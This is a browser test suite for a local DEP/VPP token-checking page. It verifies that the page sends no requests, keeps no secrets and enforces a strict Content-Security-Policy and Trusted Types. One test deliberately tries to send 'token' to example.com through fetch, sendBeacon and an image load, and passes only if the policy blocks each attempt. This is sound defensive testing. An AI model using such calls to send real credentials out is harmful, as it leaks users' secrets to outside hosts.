/** The page sends nothing, keeps nothing and shows no secret, whatever it is given. */

import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { describe, test } from "node:test";
import {
  choose,
  drop,
  fixture,
  keptForOffline,
  open,
  paste,
  pemBody,
  piecesOf,
  results,
  settled,
  singleFile,
  stage,
  traces,
} from "./harness.mjs";

const dep = await fixture("dep/Synthetic Server_Token_2026-03-15T09-12-44Z_smime.p7m");
const truncated = await fixture("dep/dep_truncated.p7m");
const vpp = await fixture("vpp/sToken_for_Musterstadt.vpptoken");
const key = await fixture("other/key_pkcs8.pem");
const decoded = { name: "decoded.json", bytes: Buffer.from(ascii(vpp), "base64") };
const given = [dep, truncated, vpp, key, decoded];

// What must be found nowhere.
const secrets = [body(dep), body(truncated), ascii(vpp), JSON.parse(decoded.bytes).token, pemBody(key)];
const pieces = secrets.flatMap(piecesOf);

function ascii({ bytes }) {
  return new TextDecoder().decode(bytes);
}

function body(file) {
  return ascii(file).split("\r\n\r\n")[1].replace(/\s/g, "");
}

const here = stage();

for (const [form, address, loaded, later] of [
  // The module that opens tokens, since a private key is among what is given; the service worker has it.
  ["the site", () => here.site.address, keptForOffline, ["unlock.js"]],
  ["the single file", () => singleFile, settled, []],
]) {
  describe(form, () => {
    test("no request follows the loading, whatever is checked, the unlock module apart", async () => {
      const { page, requests, close } = await open(here.browser, address(), { details: true });
      await loaded(page);
      const before = requests.length;
      const served = here.site.requests.length;
      const own = address().replace(/[^/]*$/, "");
      const tokens = given.filter((file) => file !== key);
      await drop(page, ...tokens);
      await results(page, tokens.length);
      assert.deepEqual(requests.slice(before), []);
      await page.getByRole("button", { name: "Clear all" }).click();
      await drop(page, ...given);
      await choose(page, ...given);
      await paste(page, { text: ascii(vpp) });
      await results(page, 2 * given.length + 1);
      await page.getByText("Opens these DEP tokens").first().waitFor();
      for (const summary of await page.locator("summary").all()) await summary.click();
      await page.getByRole("button", { name: "Clear all" }).click();
      await settled(page);
      assert.deepEqual(
        requests.slice(before),
        later.map((name) => own + name),
      );
      assert.deepEqual(here.site.requests.slice(served), [], "nothing of it comes to a server");
      assert.deepEqual(
        requests.filter((url) => !url.startsWith(own) && !url.startsWith("data:")),
        [],
      );
      await close();
    });

    test("the policy itself stops every way of sending", async () => {
      const { page, close } = await open(here.browser, address());
      const attempts = await page.evaluate(async (target) => {
        const blocked = [];
        document.addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
        const settled = async (attempt) => {
          await attempt().then(
            () => blocked.push("sent"),
            () => {},
          );
        };
        await settled(() => fetch(target));
        await settled(() => fetch("https://example.com/", { method: "POST", body: "token", mode: "no-cors" }));
        // What it returns says only that the browser took it, before the policy was asked.
        navigator.sendBeacon("https://example.com/", "token");
        await settled(
          () =>
            new Promise((done, refused) => {
              const image = new Image();
              image.onload = done;
              image.onerror = refused;
              image.src = "https://example.com/token.png";
            }),
        );
        // The events come after the refusals: three of them for connections, one for the picture.
        const violations = () => blocked.filter((what) => what !== "sent").length;
        while (violations() < 4) {
          await new Promise((done) => document.addEventListener("securitypolicyviolation", done, { once: true }));
        }
        return blocked;
      }, address());
      assert.deepEqual(
        attempts.filter((what) => what === "sent"),
        [],
      );
      assert.ok(attempts.filter((what) => what === "connect-src").length >= 3, attempts.join());
      assert.ok(attempts.includes("img-src"), attempts.join());
      await close();
    });

    test("HTML text cannot become elements or scripts", async () => {
      const { page, close } = await open(here.browser, address());
      const refused = await page.evaluate(() => {
        try {
          document.body.innerHTML = "<p>text</p>";
          return false;
        } catch (error) {
          return error instanceof TypeError;
        }
      });
      assert.equal(refused, true);
      await close();
    });

    test("no secret is in the document, a storage, the address or the console", async () => {
      const { page, messages, close } = await open(here.browser, address());
      await drop(page, ...given);
      await choose(page, ...given);
      for (const file of given) await paste(page, { text: ascii(file) });
      await results(page, 3 * given.length);
      const everything = [await traces(page), ...messages].join("\n");
      assert.ok(everything.includes("Gymnasium Überlingen"), "the search would see what is shown");
      assert.deepEqual(
        pieces.filter((piece) => everything.includes(piece)),
        [],
      );
      assert.deepEqual(messages, []);
      await close();
    });
  });
}

const directives = [
  "default-src 'none'",
  "connect-src 'none'",
  "base-uri 'none'",
  "form-action 'none'",
  "require-trusted-types-for 'script'",
  "trusted-types relution-token-check",
];

test("the site carries its policy, with nothing inline allowed", async () => {
  const policy = await policyOf("site/index.html");
  for (const directive of directives) assert.ok(policy.includes(directive), directive);
  assert.ok(policy.includes("script-src 'self' 'wasm-unsafe-eval'"));
  assert.ok(policy.includes("style-src 'self'"));
  assert.ok(policy.includes("img-src 'self' data:"));
  assert.ok(policy.includes("manifest-src 'self'"));
  assert.ok(policy.includes("worker-src 'self' blob:"));
});

test("the single file carries its policy, with hashes in place of 'self'", async () => {
  const policy = await policyOf("relution-token-check.html");
  for (const directive of directives) assert.ok(policy.includes(directive), directive);
  assert.ok(policy.some((directive) => /^script-src 'sha256-[^']+' 'wasm-unsafe-eval'$/.test(directive)));
  assert.ok(policy.some((directive) => /^style-src 'sha256-[^']+'$/.test(directive)));
});

async function policyOf(file) {
  const html = await readFile(new URL(`../../dist/${file}`, import.meta.url), "utf8");
  return html.match(/http-equiv="Content-Security-Policy" content="([^"]*)"/)[1].split("; ");
}
